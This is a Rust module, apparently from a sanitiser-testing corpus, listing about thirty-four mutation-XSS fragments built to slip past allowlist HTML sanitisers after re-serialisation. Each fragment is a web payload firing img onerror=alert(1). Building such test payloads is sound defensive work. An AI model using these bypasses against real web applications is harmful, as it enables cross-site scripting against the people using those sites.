//! HTML that is harmless when it is read once and harmful when it is read, written and read again.
//!
//! In: nothing. Out: fragments against sanitisers that keep a list of good tags. Must not: be well-formed.

use super::{Kind, Payload, payloads};

/// Fragments whose tree changes when it is written out.
pub(super) const MUTATIONS: &[Payload] = payloads!(Kind::Html;
    "mutate-noscript", r#"<noscript><p title="</noscript><img src=x onerror=alert(1)>">"#;
    "mutate-math-style", r#"<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;"><img src=x onerror=alert(1)>"#;
    "mutate-math-mglyph", r#"<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img src=x onerror=alert(1)>">"#;
    "mutate-svg-style", r#"<svg></p><style><a id="</style><img src=x onerror=alert(1)>">"#;
    "mutate-svg-title", r#"<svg><title><style><img src="</style><img src=x onerror=alert(1)//">"#;
    "mutate-svg-desc", r#"<svg><desc><table><svg><style><img title="</style><img src=x onerror=alert(1)>"></style></svg></table></desc></svg>"#;
    "mutate-form", r#"<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"#;
    "mutate-annotation", r#"<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>"#;
    "mutate-select", r#"<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">x</a></select><img src=x onerror=alert(1)>"#;
    "mutate-table", r#"<table><td><img src=x onerror=alert(1)></table><svg><p><style><g title="</style><img src=x onerror=alert(1)>"></svg>"#;
    "mutate-template", r#"<template><s><template><s></template></s></template><img src=x onerror=alert(1)>"#;
    "mutate-comment", r#"<!-- --!><img src=x onerror=alert(1)> -->"#;
    "mutate-comment-short", r#"<!--><img src=x onerror=alert(1)>-->"#;
    "mutate-comment-dash", r#"<!---><img src=x onerror=alert(1)>-->"#;
    "mutate-comment-space", r#"<! --><img src=x onerror=alert(1)>"#;
    "mutate-declaration", r#"<!DOCTYPE x><img src=x onerror=alert(1)>"#;
    "mutate-cdata", r#"<![CDATA[><img src=x onerror=alert(1)>]]>"#;
    "mutate-cdata-svg", r#"<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>"#;
    "mutate-instruction", r#"<?x ><img src=x onerror=alert(1)>?>"#;
    "mutate-end-tag", r#"</x onclick=alert(1)><img src=x onerror=alert(1)>"#;
    "mutate-end-comment", r#"</ ><img src=x onerror=alert(1)>"#;
    "mutate-xmp", r#"<xmp><p title="</xmp><img src=x onerror=alert(1)>">"#;
    "mutate-listing", r#"<listing>&lt;img src=x onerror=alert(1)&gt;</listing><img src=x onerror=alert(1)>"#;
    "mutate-noembed", r#"<noembed><p title="</noembed><img src=x onerror=alert(1)>">"#;
    "mutate-iframe", r#"<iframe><p title="</iframe><img src=x onerror=alert(1)>">"#;
    "mutate-title", r#"<title><p title="</title><img src=x onerror=alert(1)>">"#;
    "mutate-attribute-tick", r#"<p title="``onmouseover=alert(1)"><img src=x onerror=alert(1)>"#;
    "mutate-tag-null", "<\0img src=x onerror=alert(1)><img\0 src=x onerror=alert(1)><img src=x onerror=alert(1)>";
    "mutate-tag-wide", "<\u{130}mg src=x onerror=alert(1)><img src=x onerror=alert(1)>";
    "mutate-attribute-slashes", r#"<img////src="x"/////onerror=alert(1)>"#;
    "mutate-attribute-less", r#"<img src=x onerror=alert(1)//<>"#;
    "mutate-attribute-twice", r#"<img src=x onerror=alert(1) onerror=void(0)>"#;
    "mutate-nested-quotes", r#"<a title='"><img src=x onerror=alert(1)>'><img src=x onerror=alert(1)>"#;
    "mutate-deep", r#"<b><i><u><s><a><b><i><u><s><a><p><table><tr><td><b><img src=x onerror=alert(1)>"#;
);
